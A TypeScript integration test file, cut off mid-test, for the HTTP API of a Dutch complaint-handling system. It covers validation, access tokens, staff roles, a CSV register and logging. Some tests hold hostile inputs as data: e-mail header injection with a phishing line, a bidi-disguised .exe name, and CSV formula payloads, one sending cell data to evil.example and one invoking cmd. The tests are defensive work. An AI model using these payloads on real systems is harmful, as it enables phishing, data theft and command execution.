import type { Dossier } from '../../domain/dossier';
import { createLinkToken, linkScopes } from '../../domain/link-token';
import { taskQueue } from '../../domain/messages';
import { workflowIdFor } from '../../domain/reference';
import { actionNames, audienceOf, pathOf, rolesOf } from '../../domain/actions';
import { call, startTestApi } from '../support/api';
import { complaintInput } from '../support/complaints';
import { devStack } from '../support/stack';
import { staffTokens, testLinkSecret } from '../support/worker';

interface Problem {
  type: string;
  title: string;
  status: number;
  detail: string;
  errors?: { field: string; rule: string }[];
  code?: string;
  data?: Record<string, unknown>;
}

const staffPaths = actionNames.filter((name) => audienceOf(name) === 'staff').map(pathOf);

const gooiconsult = {
  procedure: 'gooiconsult',
  complainant: { name: 'Zoë de Wit-Öztürk', email: 'zoe@example.nl', address: { street: 'Brink 3', postalCode: '1211 AA', city: 'Hilversum' } },
  description: 'Het advies kwam drie weken te laat; ik ben daardoor een opdracht misgelopen.',
};

describe('the HTTP API on a real dev server and worker', () => {
  const logLines: string[] = [];
  const stack = devStack({ log: (line) => logLines.push(line) });

  const url = (path: string) => `${stack.api.url}${path}`;
  const json = async <T>(response: Response): Promise<T> => (await response.json()) as T;
  const expectProblem = async (response: Response, status: number): Promise<Problem> => {
    expect(response.status).toBe(status);
    expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const problem = await json<Problem>(response);
    expect(problem).toMatchObject({ status, title: expect.any(String) as unknown, detail: expect.any(String) as unknown });
    expect(JSON.stringify(problem)).not.toMatch(/\bat \S+\.(ts|js):\d+/);
    return problem;
  };
  const file = async (body: unknown = gooiconsult, headers: Record<string, string> = {}) => {
    const response = await call('POST', url('/api/complaints'), { body, headers });
    expect(response.status).toBe(201);
    const created = await json<{ reference: string; dossierUrl: string }>(response);
    return { ...created, token: new URL(created.dossierUrl).searchParams.get('token')! };
  };
  const act = (reference: string, action: string, body: unknown, token: string = staffTokens.mira, headers: Record<string, string> = {}) =>
    call('POST', url(`/api/admin/complaints/${reference}/${action}`), { token, body, headers });

  describe('public', () => {
    it('serves the public part of a procedure: fields, categories, terms and the appeal route, not the staff mailbox', async () => {
      const response = await call('GET', url('/api/procedures/thuiswerkdesk'));
      expect(response.status).toBe(200);
      const procedure = await json<Record<string, unknown>>(response);
      expect(procedure).toMatchObject({
        id: 'thuiswerkdesk',
        intake: { categories: expect.arrayContaining([{ id: 'vacature', label: 'Het aanbod of een vacature' }]) as unknown },
        terms: { firstContact: { within: 5, unit: 'workingDays' } },
        appeals: [{ body: { kind: 'odr' } }],
      });
      expect(procedure).not.toHaveProperty('staffMailbox');
      await expectProblem(await call('GET', url('/api/procedures/nope')), 404);
    });

    it('files a complaint: 201 with the reference and a dossier link that opens the complainant\'s view', async () => {
      const { reference, token } = await file();
      const viaQuery = await call('GET', url(`/api/complaints/${reference}?token=${token}`));
      expect(viaQuery.status).toBe(200);
      const dossier = await json<Dossier>(viaQuery);
      expect(dossier).toMatchObject({ reference, status: 'received', complaint: { description: gooiconsult.description } });
      const viaBearer = await call('GET', url(`/api/complaints/${reference}`), { token });
      expect(viaBearer.status).toBe(200);
      // The staff's note is not the complainant's to read.
      await act(reference, 'add-note', { text: 'Interne notitie: klant belt vaak.' });
      const again = await json<Dossier>(await call('GET', url(`/api/complaints/${reference}`), { token }));
      expect(JSON.stringify(again)).not.toContain('Interne notitie');
      const staffView = await json<Dossier>(await call('GET', url(`/api/admin/complaints/${reference}`), { token: staffTokens.hanna }));
      expect(staffView.timeline.map((e) => e.event)).toContain('note');
    });

    it.each([
      ['a field the procedure requires is missing', { ...gooiconsult, complainant: { name: 'Z', email: 'z@example.nl' } }, 'complainant.address', /Gooiconsult needs this field/],
      ['a field has the wrong type', { ...gooiconsult, description: 5 }, 'description', /expected string/],
      ['an unknown field', { ...gooiconsult, urgent: true }, 'body', /unknown field\(s\) "urgent": remove them/],
      ['a category the procedure does not have', { procedure: 'thuiswerkdesk', complainant: { email: 'a@example.nl' }, description: 'x', category: 'salaris', whatHappened: 'x', expected: 'y', occurredOn: '2026-01-05' }, 'category', /one of werkgever, vacature, account, overig/],
      ['an invalid e-mail address', { ...gooiconsult, complainant: { ...gooiconsult.complainant, email: 'zoe@' } }, 'complainant.email', /an e-mail address such as naam@voorbeeld.nl/],
      ['an unknown procedure', { ...gooiconsult, procedure: 'acme' }, 'procedure', /must name a loaded procedure/],
    ])('400 naming the field when %s', async (_case, body, field, rule) => {
      const problem = await expectProblem(await call('POST', url('/api/complaints'), { body }), 400);
      expect(problem.errors).toEqual(expect.arrayContaining([{ field, rule: expect.stringMatching(rule) as unknown }]));
    });

    it('400 for malformed JSON, 413 for a body over 64 KiB, 404 for an unknown route', async () => {
      const malformed = await expectProblem(await call('POST', url('/api/complaints'), { body: '{"procedure": "gooiconsult",' }), 400);
      expect(malformed.detail).toBe('the body is not valid JSON');
      const huge = { ...gooiconsult, description: 'x'.repeat(70 * 1024) };
      expect((await expectProblem(await call('POST', url('/api/complaints'), { body: huge }), 413)).detail).toMatch(/larger than 64 KiB/);
      await expectProblem(await call('GET', url('/api/nothing-here')), 404);
    });

    it('refuses a name with line breaks, and control or bidi characters anywhere, naming the field: the organisation\'s e-mail never carries them', async () => {
      const injected = { ...gooiconsult, complainant: { ...gooiconsult.complainant, name: 'Jan,\r\n\r\nUw klacht is AFGEWEZEN. Betaal €50 via https://evil.example' } };
      const problem = await expectProblem(await call('POST', url('/api/complaints'), { body: injected }), 400);
      expect(problem.errors).toEqual([{ field: 'complainant.name', rule: 'one line: no line breaks, control characters or bidirectional overrides' }]);
      for (const [field, body] of [
        ['description', { ...gooiconsult, description: 'Tekst met NUL \u0000 erin' }],
        ['description', { ...gooiconsult, description: 'Factuur \u202Efdp.exe' }],
        ['complainant.address.city', { ...gooiconsult, complainant: { ...gooiconsult.complainant, address: { ...gooiconsult.complainant.address, city: 'Hilversum\u2066' } } }],
      ] as const) {
        expect((await expectProblem(await call('POST', url('/api/complaints'), { body }), 400)).errors?.map((e) => e.field)).toEqual([field]);
      }
      // Line breaks belong in free text.
      await file({ ...gooiconsult, description: 'Eerste regel.\nTweede regel.\tMet tab.' });
    });

    it('accepts an internationalised address as SMTPUTF8 allows it, and the receipt reaches it', async () => {
      const { reference } = await file({ ...gooiconsult, complainant: { ...gooiconsult.complainant, email: 'zoë@exämple.nl' } });
      const receipt = await stack.mail.waitFor((m) => m.subject === `Ontvangstbevestiging van uw klacht [${reference}]`);
      expect(JSON.stringify(receipt.to)).toMatch(/zo(ë|\\u00eb)@(exämple\.nl|xn--exmple-cua\.nl)/);
      await expectProblem(await call('POST', url('/api/complaints'), { body: { ...gooiconsult, complainant: { ...gooiconsult.complainant, email: 'zoë@exämple' } } }), 400);
    });

    it('is idempotent on Idempotency-Key: the same complaint twice gives one reference; the key for another complaint 422', async () => {
      const key = `intake-${Date.now()}-abcdef`;
      const first = await file(gooiconsult, { 'Idempotency-Key': key });
      const second = await file(gooiconsult, { 'Idempotency-Key': key });
      expect(second.reference).toBe(first.reference);
      const other = await call('POST', url('/api/complaints'), { body: { ...gooiconsult, description: 'Iets anders' }, headers: { 'Idempotency-Key': key } });
      expect((await expectProblem(other, 422)).detail).toMatch(/was used for another complaint/);
      const receipts = () => stack.mail.messages.filter((m) => m.subject === `Ontvangstbevestiging van uw klacht [${first.reference}]`);
      await stack.mail.waitFor((m) => m.subject === `Ontvangstbevestiging van uw klacht [${first.reference}]`);
      expect(receipts()).toHaveLength(1);
      await expectProblem(await call('POST', url('/api/complaints'), { body: gooiconsult, headers: { 'Idempotency-Key': 'short' } }), 400);
    });

    it('answers headers too large for Node with 431 problem+json too', async () => {
      const response = await call('GET', url('/healthz'), { headers: { 'x-padding': 'x'.repeat(20_000) } });
      await expectProblem(response, 431);
    });

    it('sends security headers and a request id', async () => {
      const response = await call('GET', url('/healthz'));
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('content-security-policy')).toContain("default-src 'self'");
      expect(response.headers.get('x-request-id')).toMatch(/^[\w-]+$/);
    });
  });

  describe('complainant links', () => {
    it('answer a forged, foreign or expired link with 403 that reveals nothing, and no link with 401', async () => {
      const { reference, token } = await file();
      const other = await file();
      const expired = createLinkToken(testLinkSecret, { reference, scopes: linkScopes, generation: 0, expiresAt: new Date(Date.now() - 1000) });
      const forged = createLinkToken('a-different-secret-0123456789abcdefghijkl', { reference, scopes: linkScopes, generation: 0, expiresAt: new Date(Date.now() + 3600_000) });
      const details = new Set<string>();
      for (const bad of [forged, other.token, expired, `${token}x`, 'not-a-token']) {
        const problem = await expectProblem(await call('GET', url(`/api/complaints/${reference}?token=${bad}`)), 403);
        details.add(problem.detail);
        await expectProblem(await call('POST', url(`/api/complaints/${reference}/withdraw`), { token: bad, body: {} }), 403);
      }
      expect(details.size).toBe(1);
      await expectProblem(await call('GET', url(`/api/complaints/${reference}`)), 401);
    });

    it('carry the complainant\'s actions: not satisfied, appeal to the NRTO committee, and a refusal in the wrong state', async () => {
      const { reference, token } = await file();
      const early = await expectProblem(await call('POST', url(`/api/complaints/${reference}/appeal`), { token, body: { grounds: 'Oneens' } }), 409);
      expect(early).toMatchObject({ code: 'NoPositionYet', data: {}, detail: 'No position has been sent yet.' });
      // The detail speaks the caller's language; the code and data stay the same.
      const dutch = await expectProblem(await call('POST', url(`/api/complaints/${reference}/appeal`), { token, body: { grounds: 'Oneens' }, headers: { 'accept-language': 'nl-NL,nl;q=0.9' } }), 409);
      expect(dutch).toMatchObject({ code: 'NoPositionYet', detail: 'Er is nog geen standpunt verstuurd.' });
      await call('POST', url(`/api/complaints/${reference}/information`), { token, body: { text: 'Het ging om de offerte van 3 maart.' } }).then((r) => expect(r.status).toBe(200));
      expect((await act(reference, 'send-position', { text: 'Ons standpunt, met redenen.' }, staffTokens.hanna)).status).toBe(200);
      const answered = await call('POST', url(`/api/complaints/${reference}/satisfaction`), { token, body: { satisfied: false, comment: 'Niet eens' } });
      expect(answered.status).toBe(200);
      const appealed = await json<Dossier>(await call('POST', url(`/api/complaints/${reference}/appeal`), { token, body: { grounds: 'Naar de commissie' } }));
      expect(appealed.status).toBe('with_external_body');
      // The complainant's view of their own actions: no staff mail, no internal notes.
      expect(appealed.correspondence.every((c) => c.to === 'complainant')).toBe(true);
      await expectProblem(await call('POST', url(`/api/complaints/${reference}/satisfaction`), { token, body: { satisfied: 'ja' } }), 400);
      const withdrawn = await json<Dossier>(await call('POST', url(`/api/complaints/${reference}/withdraw`), { token, body: { reason: 'Opgelost' } }));
      expect(withdrawn).toMatchObject({ status: 'closed', outcome: 'withdrawn' });
    });
  });

  describe('staff', () => {
    const managerOnly = actionNames.filter((name) => audienceOf(name) === 'staff' && !rolesOf(name).includes('handler')).map(pathOf);

    it('the auth matrix: every admin route 401 without a token and with a forged one; 403 for a handler where a manager is needed', async () => {
      const { reference } = await file();
      const routes: [method: 'GET' | 'POST', path: string][] = [
        ['POST', '/api/admin/complaints'],
        ['GET', '/api/admin/complaints'],
        ['GET', '/api/admin/complaints.csv'],
        ['GET', `/api/admin/complaints/${reference}`],
        ['GET', '/api/admin/reports/2026-Q2'],
        ...staffPaths.map((path) => ['POST', `/api/admin/complaints/${reference}/${path}`] as ['POST', string]),
      ];
      for (const [method, path] of routes) {
        const body = method === 'POST' ? {} : undefined;
        const none = await expectProblem(await call(method, url(path), { body }), 401);
        expect(none.detail).toBe('send your staff token as Authorization: Bearer <token>');
        await expectProblem(await call(method, url(path), { body, token: 'forged-token-0123456789' }), 401);
      }
      expect(managerOnly.sort()).toEqual(['assign', 'decide-appeal', 'destroy-early', 'record-external-outcome']);
      for (const path of managerOnly) {
        const problem = await expectProblem(await act(reference, path, {}, staffTokens.hanna), 403);
        const who = path === 'destroy-early' ? 'director' : 'manager or director';
        expect(problem.detail).toBe(`only a ${who} may ${path.replace(/-/g, ' ')}`);
      }
      await expectProblem(await act(reference, 'destroy-early', { reason: 'x' }, staffTokens.mira), 403);
    });

    it('every staff action runs its update and answers with the new dossier; a refused one 409 with the reason, a broken rule 422', async () => {
      const { reference } = await file({ ...gooiconsult, complainant: { ...gooiconsult.complainant, email: 'actions@example.nl' } });
      const ok = async (action: string, body: unknown, token: string = staffTokens.mira): Promise<Dossier> => {
        const response = await act(reference, action, body, token);
        expect({ action, status: response.status }).toEqual({ action, status: 200 });
        return json<Dossier>(response);
      };
      await ok('add-involved', { name: 'Henk Handler', staffId: 'henk', role: 'consultant' }, staffTokens.hanna);
      expect(await expectProblem(await act(reference, 'assign', { handler: 'henk' }), 409)).toMatchObject({
        code: 'AssigneeInvolved',
        data: { staffId: 'henk' },
        detail: 'henk is among the people this complaint is about; assign someone else.',
      });
      // Henk may not act on a complaint about himself at all.
      expect(await expectProblem(await act(reference, 'add-note', { text: 'Mijn kant van het verhaal' }, staffTokens.henk), 403)).toMatchObject({ code: 'ActorInvolved' });
      expect((await expectProblem(await act(reference, 'assign', { handler: 'nobody' }), 422)).errors).toEqual([{ field: 'handler', rule: 'no staff member "nobody" in the staff file' }]);
      expect((await ok('assign', { handler: 'hanna' })).handler).toBe('hanna');
      expect((await ok('log-contact', { channel: 'phone', summary: 'Gebeld' }, staffTokens.hanna)).status).toBe('in_progress');
      const past = new Date(Date.now() - 3600_000).toISOString();
      expect(await expectProblem(await act(reference, 'schedule-hearing', { at: past, mode: 'teams' }, staffTokens.hanna), 422)).toMatchObject({
        code: 'HearingInPast',
        errors: [{ field: 'at', rule: expect.stringMatching(/has passed; choose a time ahead\.$/) as unknown }],
      });
      const at = new Date(Date.now() + 3 * 24 * 3600_000).toISOString();
      expect((await ok('schedule-hearing', { at, mode: 'teams' }, staffTokens.hanna)).hearings).toHaveLength(1);
      const current = (await ok('add-note', { text: 'Voorbereiding' }, staffTokens.hanna)).terms.maxLeadTime!.date;
      const later = new Date(Date.parse(`${current}T12:00:00Z`) + 7 * 24 * 3600_000).toISOString().slice(0, 10);
      expect((await ok('extend-term', { term: 'maxLeadTime', newDate: later, reason: 'Wachten op stukken' }, staffTokens.hanna)).terms.maxLeadTime?.extendedTo).toBeDefined();
      expect((await expectProblem(await act(reference, 'extend-term', { term: 'maxLeadTime', newDate: later, reason: 'nogmaals' }, staffTokens.hanna), 422)).code).toBe('NewDateNotLater');
      await expectProblem(await act(reference, 'extend-term', { term: 'maxLeadTime', newDate: '2026-02-30', reason: 'x' }, staffTokens.hanna), 400);
      await ok('record-cause', { cause: 'Planning', measures: 'Wekelijkse controle' }, staffTokens.hanna);
      // The hearing is planned and not held: the position says why it goes out before it.
      expect((await expectProblem(await act(reference, 'send-position', { text: 'Standpunt' }, staffTokens.hanna), 409)).code).toBe('HearingNotHeld');
      const sent = await ok('send-position', { text: 'Standpunt met redenen', solution: 'Korting', hearingSkipped: 'De klager zegde het gesprek af.' }, staffTokens.hanna);
      expect(sent.status).toBe('awaiting_complainant');
      // The complainant appeals to the committee; staff record referral and outcome.
      const token = createLinkToken(testLinkSecret, { reference, scopes: linkScopes, generation: 0, expiresAt: new Date(Date.now() + 3600_000) });
      await call('POST', url(`/api/complaints/${reference}/appeal`), { token, body: { grounds: 'Naar de commissie' } });
      await expectProblem(await act(reference, 'decide-appeal', { level: 1, decision: 'rejected', text: 'x' }), 409);
      await ok('record-external-referral', { level: 1, caseNumber: 'NRTO-77' }, staffTokens.hanna);
      expect((await expectProblem(await act(reference, 'close', { outcome: 'no_response' }, staffTokens.hanna), 409)).code).toBe('AppealPending');
      const closed = await ok('record-external-outcome', { level: 1, outcome: 'rejected', text: 'Ongegrond' });
      expect(closed).toMatchObject({ status: 'closed', outcome: 'external_decided' });
      const late = await expectProblem(await act(reference, 'add-note', { text: 'Nog iets' }), 409);
      expect(late).toMatchObject({ code: 'ComplaintClosed', data: { closedOn: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/) as unknown } });
    });

    it('decides an internal appeal (Klassewerk) and closes a complaint', async () => {
      const klassewerk = { procedure: 'klassewerk', complainant: { name: 'Piet', email: 'piet@example.nl', phone: '06 12345678' }, description: 'Training te laat begonnen' };
      const { reference, token } = await file(klassewerk);
      await act(reference, 'send-position', { text: 'Standpunt' });
      await call('POST', url(`/api/complaints/${reference}/appeal`), { token, body: { grounds: 'Oneens' } });
      const decided = await json<Dossier>(await act(reference, 'decide-appeal', { level: 1, decision: 'upheld', text: 'U krijgt gelijk' }));
      expect(decided).toMatchObject({ status: 'closed', outcome: 'appeal_decided' });

      // A withdrawal by phone is recorded with the complainant's own words, when and how it came.
      const second = await file({ ...klassewerk, description: 'Tweede klacht' });
      const statement = { channel: 'phone', receivedAt: new Date().toISOString(), statement: 'Ik trek mijn klacht in, het is opgelost.' };
      expect((await expectProblem(await act(second.reference, 'record-withdrawal', { channel: 'phone', receivedAt: statement.receivedAt }, staffTokens.hanna), 400)).errors?.[0]?.field).toBe('statement');
      const closed = await json<Dossier>(await act(second.reference, 'record-withdrawal', statement, staffTokens.hanna));
      expect(closed).toMatchObject({ status: 'closed', outcome: 'withdrawn' });
      expect(closed.timeline.find((e) => e.event === 'withdrawal-received')).toMatchObject({ actor: 'hanna', detail: expect.stringContaining(statement.statement) as unknown });
    });

    it('an action with the same Idempotency-Key lands once; 404 for an unknown or malformed reference', async () => {
      const { reference } = await file();
      const key = `note-${Date.now()}-abcdef`;
      await act(reference, 'add-note', { text: 'Eenmaal' }, staffTokens.hanna, { 'Idempotency-Key': key });
      const again = await json<Dossier>(await act(reference, 'add-note', { text: 'Eenmaal' }, staffTokens.hanna, { 'Idempotency-Key': key }));
      expect(again.timeline.filter((e) => e.event === 'note')).toHaveLength(1);
      // The key with another action, or another body, is refused: nothing is silently dropped.
      const other = await expectProblem(await act(reference, 'log-contact', { channel: 'phone', summary: 'Gebeld' }, staffTokens.hanna, { 'Idempotency-Key': key }), 422);
      expect(other).toMatchObject({ code: 'IdempotencyKeyReused', errors: [{ field: 'Idempotency-Key' }] });
      await expectProblem(await act(reference, 'add-note', { text: 'Tweemaal' }, staffTokens.hanna, { 'Idempotency-Key': key }), 422);
      const after = await json<Dossier>(await call('GET', url(`/api/admin/complaints/${reference}`), { token: staffTokens.hanna }));
      expect(after.timeline.filter((e) => e.event === 'note' || e.event === 'contact').map((e) => e.detail)).toEqual(['Eenmaal']);
      await expectProblem(await act('KL-2026-ZZZZZZ', 'add-note', { text: 'x' }), 404);
      await expectProblem(await call('GET', url('/api/admin/complaints/KL-2026-ZZZZZZ'), { token: staffTokens.hanna }), 404);
      await expectProblem(await call('GET', url('/api/admin/complaints/not-a-reference'), { token: staffTokens.hanna }), 404);
      await expectProblem(await act(reference, 'add-note', { txt: 'typo' }), 400);
    });

    it('registers a complaint received by phone, with its own receipt time and who registered it; not one in the future', async () => {
      const receivedAt = new Date(Date.now() - 2 * 24 * 3600_000).toISOString();
      const body = { ...gooiconsult, receivedAt, channel: 'phone' };
      const response = await call('POST', url('/api/admin/complaints'), { token: staffTokens.hanna, body });
      expect(response.status).toBe(201);
      const { reference } = await json<{ reference: string }>(response);
      const dossier = await json<Dossier>(await call('GET', url(`/api/admin/complaints/${reference}`), { token: staffTokens.hanna }));
      expect(dossier).toMatchObject({ receivedAt, complaint: { channel: 'phone', registeredBy: 'hanna' }, timeline: [{ actor: 'hanna', event: 'received' }] });
      const future = await call('POST', url('/api/admin/complaints'), { token: staffTokens.hanna, body: { ...body, receivedAt: new Date(Date.now() + 3600_000).toISOString() } });
      expect((await expectProblem(future, 422)).errors).toEqual([{ field: 'receivedAt', rule: expect.stringMatching(/lies in the future/) as unknown }]);
      await expectProblem(await call('POST', url('/api/admin/complaints'), { token: staffTokens.hanna, body: { ...body, channel: 'fax' } }), 400);
    });

    it('registers a complainant without an e-mail address given a postal address: the receipt is a letter, marked posted through the API', async () => {
      const receivedAt = new Date(Date.now() - 3600_000).toISOString();
      const { email: _email, ...byPost } = gooiconsult.complainant;
      const body = { ...gooiconsult, complainant: byPost, receivedAt, channel: 'letter' };
      // Neither address: nowhere to write to.
      const { address: _address, ...nowhere } = byPost;
      const refused = await expectProblem(await call('POST', url('/api/admin/complaints'), { token: staffTokens.hanna, body: { ...body, complainant: nowhere } }), 400);
      expect(refused.errors).toContainEqual({ field: 'complainant.email', rule: 'give an e-mail address, or a postal address to send letters to' });
      // The public form always needs an e-mail address.
      await expectProblem(await call('POST', url('/api/complaints'), { body: { ...gooiconsult, complainant: byPost } }), 400);

      const response = await call('POST', url('/api/admin/complaints'), { token: staffTokens.hanna, body });
      expect(response.status).toBe(201);
      const { reference } = await json<{ reference: string }>(response);
      let dossier: Dossier | undefined;
      for (let i = 0; i < 100 && dossier?.correspondence[0]?.status !== 'to-post'; i++) {
        if (dossier) await new Promise((r) => setTimeout(r, 100));
        dossier = await json<Dossier>(await call('GET', url(`/api/admin/complaints/${reference}`), { token: staffTokens.hanna }));
      }
      expect(dossier!.correspondence[0]).toMatchObject({ to: 'complainant', step: 'receipt', status: 'to-post' });
      const early = await expectProblem(await act(reference, 'mark-posted', { letter: 0, at: receivedAt }, staffTokens.hanna), 422);
      expect(early).toMatchObject({ code: 'PostedBeforeLetter', errors: [{ field: 'at' }] });
      const posted = await act(reference, 'mark-posted', { letter: 0 }, staffTokens.hanna);
      expect(posted.status).toBe(200);
      dossier = await json<Dossier>(await call('GET', url(`/api/admin/complaints/${reference}`), { token: staffTokens.hanna }));
      expect(dossier.correspondence[0]).toMatchObject({ status: 'posted', posted: { by: 'hanna' } });
      expect(dossier.terms.acknowledge?.metAt).toBe(dossier.correspondence[0]!.sentAt);
      const again = await expectProblem(await act(reference, 'mark-posted', { letter: 0 }, staffTokens.hanna), 409);
      expect(again).toMatchObject({ code: 'NoLetterToPost', detail: expect.stringContaining('not waiting to be posted') as unknown });
    });

    it('serves the register from visibility with filters and paging, and as CSV that Excel opens with Dutch characters intact', async () => {
      const { reference } = await file({ ...gooiconsult, description: 'Voor het register' });
      await act(reference, 'assign', { handler: 'henk' });
      const query = `/api/admin/complaints?procedure=gooiconsult&handler=henk&status=in_progress`;
      let rows: { reference: string; handler?: string; status?: string }[] = [];
      for (let i = 0; i < 50 && !rows.some((r) => r.reference === reference); i++) {
        rows = (await json<{ complaints: typeof rows }>(await call('GET', url(query), { token: staffTokens.hanna }))).complaints;
        if (!rows.some((r) => r.reference === reference)) await new Promise((r) => setTimeout(r, 100));
      }
      expect(rows).toEqual([expect.objectContaining({ reference, handler: 'henk', status: 'in_progress', procedure: 'gooiconsult', overdue: false })]);

      const page1 = await json<{ complaints: unknown[]; nextPageToken?: string }>(await call('GET', url('/api/admin/complaints?pageSize=2'), { token: staffTokens.hanna }));
      expect(page1.complaints).toHaveLength(2);
      expect(page1.nextPageToken).toBeDefined();
      const page2 = await json<{ complaints: { reference: string }[] }>(
        await call('GET', url(`/api/admin/complaints?pageSize=2&pageToken=${page1.nextPageToken}`), { token: staffTokens.hanna }),
      );
      expect(page2.complaints.map((c) => c.reference)).not.toEqual((page1.complaints as { reference: string }[]).map((c) => c.reference));
      expect((await expectProblem(await call('GET', url('/api/admin/complaints?status=open'), { token: staffTokens.hanna }), 400)).errors?.[0]?.field).toBe('status');
      // One character of the signature changed (to one it is not: a token signed "…x" would pass as it is).
      const forgedToken = page1.nextPageToken!.replace(/\.(\w)/, (_, c: string) => (c === 'x' ? '.y' : '.x'));
      const forged = await expectProblem(await call('GET', url(`/api/admin/complaints?pageToken=${forgedToken}`), { token: staffTokens.hanna }), 400);
      expect(forged.errors?.[0]?.field).toBe('pageToken');

      const csv = await call('GET', url('/api/admin/complaints.csv?handler=henk'), { token: staffTokens.hanna });
      expect(csv.status).toBe(200);
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="?klachtenregister-\d{4}-\d{2}-\d{2}\.csv"?$/);
      const bytes = Buffer.from(await csv.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const lines = bytes.subarray(3).toString('utf8').split('\r\n');
      expect(lines[0]).toBe(
        'kenmerk;procedure;status;status (NL);uitkomst;datum ontvangen;geregistreerd door;kanaal;type klager;naam;adres;postcode;woonplaats;e-mail;telefoon;categorie;omschrijving;betrokkenen;behandelaar;datum standpunt;wijze van afhandeling;oorzaak;preventieve maatregelen;termijnen overschreden;termijnen verlengd;beroep;correspondentie;datum afgehandeld;vernietigen op',
      );
      const row = lines.find((l) => l.startsWith(reference))!;
      expect(row).toContain(';Zoë de Wit-Öztürk;Brink 3;1211 AA;Hilversum;zoe@example.nl;');
      expect(row).toContain(';in_progress;in behandeling;');
      expect(row).toContain(';henk;');
      expect(row).toContain(';Voor het register;');
    });

    it('writes what Excel would run as a formula as text in the CSV', async () => {
      const attacks = { name: '=HYPERLINK("https://evil.example/?x="&A1,"Klik")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', city: '+1+1', street: '-2+3' };
      const { reference } = await file({
        ...gooiconsult,
        complainant: { ...gooiconsult.complainant, name: attacks.name, address: { street: attacks.street, postalCode: '1211 AA', city: attacks.city } },
        description: attacks.description,
      });
      await act(reference, 'assign', { handler: 'henk' });
      let row: string | undefined;
      for (let i = 0; i < 50 && !row; i++) {
        const csv = await (await call('GET', url('/api/admin/complaints.csv?handler=henk'), { token: staffTokens.hanna })).text();
        row = csv.split('\r\n').find((l) => l.startsWith(reference));
        if (!row) await new Promise((r) => setTimeout(r, 100));
      }
      const cells = row!.split(';');
      for (const attack of Object.values(attacks)) {
        const cell = cells.find((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"').endsWith(attack));
        expect(cell?.replace(/^"/, '')).toMatch(/^'/);
      }
    });

    it('serves the analysis of a quarter or a year to managers only', async () => {
      const { reference } = await file({ ...gooiconsult, description: 'Voor de analyse' });
      await act(reference, 'record-cause', { cause: 'Te late planning', measures: 'Planning een week vooruit' }, staffTokens.hanna);
      await act(reference, 'send-position', { text: 'Standpunt' }, staffTokens.hanna);
      const year = new Date().getUTCFullYear();
      let report: { complaints: number; causes: { reference: string }[]; terms: Record<string, { applied: number; met: number }>; leadTimes: { receiptToPosition: { count: number } } } | undefined;
      for (let i = 0; i < 50 && !report?.causes.some((c) => c.reference === reference); i++) {
        const response = await call('GET', url(`/api/admin/reports/${year}?procedure=gooiconsult`), { token: staffTokens.mira });
        expect(response.status).toBe(200);
        report = await json<NonNullable<typeof report>>(response);
        if (!report.causes.some((c) => c.reference === reference)) await new Promise((r) => setTimeout(r, 100));
      }
      expect(report!.complaints).toBeGreaterThan(0);
      expect(report!.causes).toContainEqual(expect.objectContaining({ reference, cause: 'Te late planning', measures: 'Planning een week vooruit' }));
      expect(report!.terms.resolve!.met).toBeGreaterThan(0);
      expect(report!.leadTimes.receiptToPosition.count).toBeGreaterThan(0);
      await expectProblem(await call('GET', url(`/api/admin/reports/${year}`), { token: staffTokens.hanna }), 403);
      expect((await expectProblem(await call('GET', url('/api/admin/reports/2026-Q7'), { token: staffTokens.mira }), 400)).errors?.[0]?.field).toBe('period');
    });

    it('exports a whole dossier for a request of access, to managers only, and logs who took it', async () => {
      const { reference } = await file({ ...gooiconsult, description: 'Inzageverzoek' });
      await act(reference, 'add-note', { text: 'Intern: nagebeld' });
      const response = await call('GET', url(`/api/admin/complaints/${reference}/export`), { token: staffTokens.mira });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="?klacht-${reference}-inzage-\\d{4}-\\d{2}-\\d{2}\\.json"?$`));
      const exported = await json<{ purpose: string; exportedBy: string; dossier: Dossier }>(response);
      expect(exported).toMatchObject({ reference, exportedBy: 'mira', dossier: { reference, complaint: { description: 'Inzageverzoek', complainant: { name: 'Zoë de Wit-Öztürk' } } } });
      expect(exported.dossier.timeline.map((e) => e.event)).toContain('note');
      expect(logLines.some((l) => l.includes('dossier exported for a request of access') && l.includes(reference) && l.includes('"staff":"mira"'))).toBe(true);
      await expectProblem(await call('GET', url(`/api/admin/complaints/${reference}/export`), { token: staffTokens.hanna }), 403);
    });

    it('logs one JSON line per request with its id, and never the name, address, text or link token', async () => {
      const { reference, token } = await file({ ...gooiconsult, complainant: { ...gooiconsult.complainant, email: 'logcheck@example.nl' } });
      await call('GET', url(`/api/complaints/${reference}?token=${token}`));
      const lines = logLines.map((l) => JSON.parse(l) as { req?: { id: string; path: string }; res?: { statusCode: number } });
      const requests = lines.filter((l) => l.req?.path === `/api/complaints/${reference}`);
      expect(requests).toEqual([expect.objectContaining({ req: expect.objectContaining({ id: expect.any(String) as unknown, method: 'GET' }) as unknown, res: { statusCode: 200 } })]);
      const all = logLines.join('\n');
      for (const personal of ['logcheck@example.nl', 'Zoë', 'Brink 3', gooiconsult.description, token]) expect(all).not.toContain(personal);
    });

    it('publishes an OpenAPI document built from the route schemas, with every route', async () => {
      const document = await json<{ openapi: string; paths: Record<string, unknown> }>(await call('GET', url('/openapi.json')));
      expect(document.openapi).toBe('3.1.0');
      expect(Object.keys(document.paths)).toEqual(
        expect.arrayContaining([
          '/api/complaints',
          '/api/complaints/{reference}',
          '/api/complaints/{reference}/appeal',
          '/api/admin/complaints',
          '/api/admin/complaints.csv',
          ...staffPaths.map((path) => `/api/admin/complaints/{reference}/${path}`),
        ]),
      );
      const intake = JSON.stringify(document.paths['/api/complaints']);
      expect(intake).toContain('"additionalProperties":false');
    });
  });

  it('tells the operator through /healthz/mail while our mail relay refuses our mail', async () => {

    expect(await json<{ status: string }>(await call('GET', url('/healthz/mail')))).toMatchObject({ status: 'ok', relayRefused: 0 });
    stack.mail.faults.relayRefuses = 554;
    try {
      const { reference, dossierUrl } = await file({ ...gooiconsult, complainant: { ...gooiconsult.complainant, email: 'relay@example.nl' } });
      let response = await call('GET', url('/healthz/mail'));
